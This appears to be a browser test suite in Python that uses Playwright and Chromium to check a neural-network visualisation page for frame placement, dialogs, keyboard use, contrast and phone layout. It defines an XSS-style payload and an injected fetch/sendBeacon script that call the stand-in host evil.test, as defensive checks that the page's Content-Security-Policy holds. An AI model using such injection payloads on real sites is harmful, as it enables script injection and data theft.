"""The page of `look`, touched: driven in a browser, without a window.

A frame that is a stride off, or that a scrolled page shifts, looks as good as the right one. So its
place is measured in pixels of the picture and compared with the receptive field; what a click draws
is read back and compared with the arrays. The page names classes and files of other people: it may
neither run nor fetch anything that they bring along.
"""

import re
import shutil
from pathlib import Path

import numpy as np
import pytest

from tinyalex import drawing
from tinyalex.architectures import alexnet
from tinyalex.drawing import look_page
from tinyalex.drawing.filters import kernel_pictures
from tinyalex.inside.activities import activities, crossings, named_blocks
from tinyalex.inside.backwards import RULES
from tinyalex.inside.fields import Unit, peaks, receptive_field, strongest
from tinyalex.inside.guesses import Guess
from tinyalex.inside.inspection import Inspection, choose_unit
from tinyalex.inside.patches import Excited

pytestmark = [pytest.mark.browser, pytest.mark.slow]
HOSTILE = ("</script><script>fetch('http://evil.test/a')</script>"
           "<img src='http://evil.test/b' onerror=\"fetch('http://evil.test/c')\">")
# How far the frame is from the edges of the picture, in the picture's pixels, and where it is cut.
FRAME = """() => {
  const [frame, picture] = [".frame", ".layers"].map(
      (name) => document.querySelector(name).getBoundingClientRect());
  const scale = document.querySelector(".layers img").naturalWidth / picture.width;
  return [frame.top - picture.top, frame.left - picture.left, frame.bottom - picture.top,
          frame.right - picture.left].map((edge) => edge * scale);
}"""
PIXELS = """(canvas) => [canvas.height, canvas.width, ...canvas.getContext("2d").getImageData(
    0, 0, canvas.width, canvas.height).data]"""


@pytest.fixture(scope="module")
def chromium():
    playwright = pytest.importorskip("playwright.sync_api", reason="needs tinyalex[browser]")
    places = map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))
    path = next(filter(None, places), None)
    with playwright.sync_playwright() as driver:
        if not (path or Path(driver.chromium.executable_path).exists()):
            pytest.skip("there is no Chromium")
        browser = driver.chromium.launch(executable_path=path)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def seen():
    """What is to be seen of noise in a small network of two towers that learned nothing."""
    network = alexnet.tiny(seed=1)
    rng = np.random.default_rng(0)
    crop = rng.integers(0, 256, network.input_shape, np.uint8)
    x = (crop - np.float32(128))[None] / 64
    given = activities(network, x)
    unit = choose_unit(network, given, "conv2b:5")
    return Inspection(network, crop, x[0], 0, given, crossings(network, given), unit,
                      receptive_field(network, unit), rng.random(crop.shape[:2]), 9,
                      {rule: rng.standard_normal(crop.shape) for rule in RULES},
                      rng.random((3, 3)))


@pytest.fixture(scope="module")
def path(seen, tmp_path_factory):
    """The page, in a folder whose name is hostile too."""
    path = tmp_path_factory.mktemp("look") / "a#b%20<c>" / "look.html"
    path.parent.mkdir()
    tiles = {(unit.layer, unit.map): 2 * [look_page.excited_tile(
                 seen.network, unit, Excited(2.5, 0, 1, 2), seen.crop, HOSTILE)]
             for unit in look_page.shown_maps(seen) if unit.layer.name == "relu1b"}
    sections = look_page.look_page(seen, [Guess(HOSTILE, 0.75, True), Guess("b", 0.25)], HOSTILE,
                                   look_page.Exciting(1234, tiles))
    drawing.write_html(HOSTILE, sections, path)
    return path


class Visit:
    """The page in a window; what it asked for, and what it complained of."""

    def __init__(self, chromium, path, width=1200, height=800, **kwargs):
        self.context = chromium.new_context(viewport={"width": width, "height": height}, **kwargs)
        self.context.set_default_timeout(300_000)  # milliseconds; machines are busy at times
        self.page = self.context.new_page()
        self.asked, self.complaints = [], []
        self.page.route(re.compile("^(?!file:|data:)"), self._refuse)
        self.page.on("console", lambda message: self.complaints.append(message.text))
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.page.goto(path.as_uri())

    def _refuse(self, route):
        self.asked.append(route.request.url)
        route.abort()

    def close(self):
        self.context.close()

    @property
    def readout(self):
        return self.page.locator("output").text_content()

    @property
    def frame(self):
        return self.page.evaluate(FRAME)

    def point(self, map_, place, shape):
        """Move the mouse to a place (row, column) of a map (H, W) on the page."""
        map_.scroll_into_view_if_needed()
        box = map_.bounding_box()
        down, right = ((i + 0.5) / length for i, length in zip(place, shape, strict=True))
        self.page.mouse.move(box["x"] + right * box["width"], box["y"] + down * box["height"])


@pytest.fixture
def visit(chromium, path):
    visit = Visit(chromium, path)
    yield visit
    visit.close()
    assert visit.complaints == [] and visit.asked == []


def inside(seen, unit):
    """The part of its field that the picture has: top, left, bottom, right."""
    field, side = receptive_field(seen.network, unit), len(seen.crop)
    return [min(max(edge, 0), side) for edge in field], field


def pixels(canvas):
    height, width, *data = canvas.evaluate(PIXELS)
    image = np.array(data).reshape(height, width, 4)
    assert (image[..., 3] == 255).all()
    return image[..., :3]


def map_buttons(page, layer):
    return page.locator(f'.row button.map[data-unit^="{layer}:"]')


@pytest.mark.parametrize("name", ["conv1a", "conv1b", "conv2b", "conv3a", "conv5b"])
def test_the_frame_is_the_receptive_field_of_the_unit_under_the_mouse(visit, seen, name):
    layer = named_blocks(seen.network)[name]
    y = seen.activities[layer]
    H, W, _ = y.shape
    map_ = map_buttons(visit.page, name).last
    f = int(map_.get_attribute("data-unit").split(":")[1])
    for place in ((0, 0), (H // 2, W // 2 - 1), (H - 1, 1), (1, W - 1)):
        visit.point(map_, place, (H, W))
        expected, field = inside(seen, Unit(layer, f, *place))
        assert visit.frame == pytest.approx(expected, abs=0.05)
        cut = {f"cut-{side}" for side, inner, outer in zip(
            ("top", "left", "bottom", "right"), expected, field, strict=True) if inner != outer}
        classes = visit.page.locator(".frame").get_attribute("class").split()
        assert {*classes} == {"frame"} | cut
        said = re.fullmatch(
            r"map (\d+) of (\w+), row (\d+), column (\d+): (\S+)\. It sees (\d+)×\d+ pixels: "
            r"rows (\S+) to (\S+), columns (\S+) to (\S+)\.", visit.readout)
        assert said[2] == name and [int(said[i]) for i in (1, 3, 4, 6, 7, 8, 9, 10)] == [
            f, *place, field.height, field.top, field.bottom - 1, field.left, field.right - 1]
        assert float(said[5]) == pytest.approx(y[(*place, f)], abs=float(y.max()) / 400, rel=0.06)


def test_at_first_the_frame_is_that_of_the_chosen_unit(visit, seen):
    assert visit.frame == pytest.approx(inside(seen, seen.unit)[0], abs=0.05)
    assert visit.readout.startswith(f"map 5 of conv2b, row {seen.unit.row}, ")


def test_full_layers_name_their_units_and_see_everything(visit, seen):
    y = seen.activities[named_blocks(seen.network)["fc6b"]]
    visit.point(map_buttons(visit.page, "fc6b"), (1, 3), (2, 64))
    assert visit.readout.startswith("fc6b, unit 67: ") and "whole picture" in visit.readout
    assert float(visit.readout.split(": ")[1].split(". ")[0]) == pytest.approx(
        y[67], rel=0.06, abs=float(y.max()) / 100)
    assert visit.frame == pytest.approx([0, 0, *seen.crop.shape[:2]], abs=0.05)
    visit.page.mouse.down()
    visit.page.mouse.up()
    assert visit.page.locator("dialog .places button").first.text_content().startswith(
        f"unit {y.argmax()}: ")


def test_a_click_shows_a_map_large_with_its_strongest_places_and_its_kernel(visit, seen):
    name, scale = "conv1b", {"peak": max(seen.activities[named_blocks(seen.network)[n]].max()
                                         for n in ("conv1a", "conv1b"))}
    layer = named_blocks(seen.network)[name]
    map_ = map_buttons(visit.page, name).nth(2)
    f = int(map_.get_attribute("data-unit").split(":")[1])
    y = seen.activities[layer][..., f]
    visit.point(map_, (4, 7), y.shape)
    visit.page.mouse.down()
    visit.page.mouse.up()
    dialog = visit.page.locator("dialog")
    assert dialog.locator("h2").text_content() == f"map {f} of conv1b"
    assert visit.readout.startswith(f"map {f} of conv1b, row 4, column 7: ")
    drawn = pixels(dialog.locator(".large canvas"))
    steps = np.abs(drawn - drawing.heat(y, **scale).astype(int)).max()
    assert steps <= 12, "a level or two of 256"
    places = peaks(y, 8)
    assert places[0] == strongest(layer, seen.activities[layer], f)[2:]
    buttons = dialog.locator(".places button")
    assert buttons.count() == len(places) > 3
    for i, place in enumerate(places):
        field = receptive_field(seen.network, Unit(layer, f, *place))
        np.testing.assert_array_equal(pixels(buttons.nth(i).locator("canvas")),
                                      look_page.patch(seen.crop, field))
        buttons.nth(i).hover()
        assert visit.frame == pytest.approx(inside(seen, Unit(layer, f, *place))[0], abs=0.05)
    W = {name: layer.params["W"] for name, layer in
         zip("ab", [tower[0] for tower in seen.network.stages[0]], strict=True)}
    kernel = kernel_pictures(W["b"], max(np.abs(array).max() for array in W.values()))[f]
    np.testing.assert_array_equal(pixels(dialog.locator(".kernel canvas")), np.rint(255 * kernel))
    exciting = dialog.locator(".exciting img").evaluate_all(
        "(images) => images.map((it) => [it.alt.slice(-22), it.naturalWidth])")
    assert exciting == 2 * [["2.5 at row 1, column 2", 5]]
    assert dialog.get_by_text("among 1,234 pictures").count() == 1
    dialog.get_by_text("Close").click()
    map_buttons(visit.page, "conv3a").first.click()
    assert dialog.locator(".exciting").count() == 0
    assert dialog.locator(".kernel").count() == 0, "they read other maps"


def test_a_patch_opens_the_map_of_its_unit(visit):
    patch = visit.page.locator('img[data-unit^="conv4a:"]').nth(3)
    unit = patch.get_attribute("data-unit")
    patch.click()
    assert visit.page.locator(".large").get_attribute("data-unit") == unit


def test_all_maps_of_a_layer_unfold_to_be_pointed_at(visit, seen):
    layer = named_blocks(seen.network)["conv5a"]
    fold = visit.page.locator('details[data-layer="conv5a"]')
    fold.locator("summary").click()
    maps = fold.locator("button.map")
    y = seen.activities[layer]
    assert maps.count() == y.shape[2]
    visit.point(maps.nth(41), (2, 3), y.shape[:2])
    assert visit.readout.startswith("map 41 of conv5a, row 2, column 3: ")


def test_everything_is_reached_and_done_by_keyboard(visit, seen):
    page = visit.page

    def press(*keys):
        for key in keys:
            page.keyboard.press(key)

    def focused(script):
        return page.evaluate(f"(() => {{ const it = document.activeElement; return {script}; }})()")

    press("Tab")
    assert focused("it.type") == "radio"
    press("ArrowDown", "ArrowDown")
    assert page.locator(".layers img").nth(1).get_attribute("alt").startswith("how probable")
    press("Tab")
    assert focused("it.type") == "range"
    press("Tab")
    assert focused("it.dataset.unit").startswith("conv2b:5:")
    press("Tab")
    first = map_buttons(page, "conv1a")
    assert focused("it.dataset.unit") == first.nth(0).get_attribute("data-unit")
    assert focused("getComputedStyle(it).outlineStyle") == "solid"
    press("ArrowRight", "ArrowRight", "ArrowLeft")
    unit = first.nth(1).get_attribute("data-unit")
    assert focused("it.dataset.unit") == unit
    _, f, row, column = unit.split(":")
    assert visit.readout.startswith(f"map {f} of conv1a, row {row}, column {column}: ")
    press("Enter")
    assert focused("it.className") == "map large"
    layer = named_blocks(seen.network)["conv1a"]
    place = [int(row), int(column)]
    step = -1 if place[0] else 1
    press("ArrowUp" if place[0] else "ArrowDown", *["ArrowRight"] * 40)
    expected, _ = inside(seen, Unit(layer, int(f), place[0] + step, 27))
    assert visit.frame == pytest.approx(expected, abs=0.05), "the arrows stop at the edge"
    press("Tab")
    assert focused("it.closest('.places') !== null")
    press("Escape")
    assert not page.locator("dialog").is_visible()
    assert focused("it.dataset.unit") == unit
    press("Tab")
    assert focused("it.tagName") == "SUMMARY"
    press("Enter", "Tab", "End")
    assert focused("it.dataset.unit").startswith("conv1a:15:")


def test_what_the_methods_found_lies_over_the_picture(visit):
    page, over = visit.page, visit.page.locator(".layers img").nth(1)
    assert not over.is_visible()
    names = page.locator("fieldset label").all_text_contents()
    assert names[3:] == ["size of the gradient", *RULES, "Grad-CAM", "opacity"]
    sources = []
    for n, name in enumerate(names[1:-1], 1):
        page.get_by_label(name, exact=True).check()
        tile = page.locator(".layered img").nth(n)
        sources.append(over.get_attribute("src"))
        assert over.is_visible() and sources[-1] == tile.get_attribute("src")
        assert over.get_attribute("alt") == tile.get_attribute("alt")
    assert len({*sources}) == len(names) - 2, "each its own"
    page.get_by_label("opacity").fill("30")
    assert over.evaluate("(it) => getComputedStyle(it).opacity") == "0.3"
    page.locator("fieldset input").first.check()
    assert not over.is_visible()


FETCH = """() => { for (const tag of ["img", "script", "iframe"]) {
    document.body.append(Object.assign(document.createElement(tag), {src: "http://evil.test/x"})) }
  fetch("http://evil.test/y").catch(() => 0); navigator.sendBeacon("http://evil.test/z"); }"""


def test_what_others_named_is_text_and_nothing_can_leave(visit, chromium, path, tmp_path):
    assert visit.page.locator("h1").text_content() == HOSTILE
    visit.page.evaluate(FETCH)
    visit.page.wait_for_timeout(200)
    assert visit.asked == [] and len(visit.complaints) >= 4
    visit.complaints.clear()
    text, times = re.subn('<meta http-equiv="Content-Security-Policy"[^>]*>', "",
                          path.read_text("utf-8"))
    assert times == 1
    (tmp_path / "open.html").write_text(text, "utf-8")
    control = Visit(chromium, tmp_path / "open.html")
    control.page.evaluate(FETCH)
    control.page.wait_for_timeout(200)
    assert len(control.asked) >= 4, "this can be seen where nothing forbids it"
    control.close()


@pytest.mark.parametrize("scripts", [True, False])
def test_a_phone_never_scrolls_sideways(chromium, path, scripts):
    phone = Visit(chromium, path, 360, 740, has_touch=scripts, java_script_enabled=scripts)
    width = "document.scrollingElement.scrollWidth"
    assert phone.page.evaluate(width) == 360
    if scripts:
        map_buttons(phone.page, "conv3b").nth(4).tap()
        dialog = phone.page.locator("dialog")
        box = dialog.bounding_box()
        assert box["x"] >= 0 and box["x"] + box["width"] <= 360
        assert dialog.evaluate("(it) => it.scrollWidth <= it.clientWidth")
        assert phone.frame[3] > 0 and phone.page.evaluate(width) == 360
    phone.close()


def test_without_scripts_the_page_is_complete(chromium, path, seen):
    plain = Visit(chromium, path, java_script_enabled=False)
    texts = plain.page.locator("img").evaluate_all("(images) => images.map((it) => it.alt)")
    assert len(texts) == 4 + 4 + 3 + 5 * 2 * (2 * 8 + 1) + 4 and min(map(len, texts)) > 9
    assert plain.page.locator("button, input, dialog, aside").count() == 0
    plain.close()


def luminance(colour):
    """Of "rgb(r, g, b)", as WCAG defines it."""
    share = np.array([int(part) for part in re.findall(r"\d+", colour)[:3]]) / 255
    return np.where(share <= 0.04045, share / 12.92, ((share + 0.055) / 1.055) ** 2.4) @ [
        0.2126, 0.7152, 0.0722]


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_can_be_read_in_light_and_in_the_dark(chromium, path, scheme):
    visit = Visit(chromium, path, color_scheme=scheme, reduced_motion="reduce")
    colour = "(it) => getComputedStyle(it)."
    paper = luminance(visit.page.locator("body").evaluate(colour + "backgroundColor"))
    assert (paper > 0.5) == (scheme == "light")
    for thing, part, least in (*((text, "color", 4.5) for text in (
            "h1", "p", "figcaption", "summary", ".bar b", ".bar span")),
            (".bar i.true", "backgroundColor", 3), (".bar i:not(.true)", "backgroundColor", 3)):
        ink = visit.page.locator(thing).first.evaluate(colour + part)
        dark, light = sorted([luminance(ink), paper])
        assert (light + 0.05) / (dark + 0.05) >= least, thing
    bar, share = (visit.page.locator(f".bar {part}").first.bounding_box() for part in ("i", "span"))
    assert bar["y"] >= share["y"] + 0.85 * share["height"], "a bar is behind its text"
    moving = "() => [...document.querySelectorAll('*')].filter((it) => " \
        "getComputedStyle(it).transitionDuration !== '0s').length"
    assert visit.page.evaluate(moving) == 0
    visit.close()
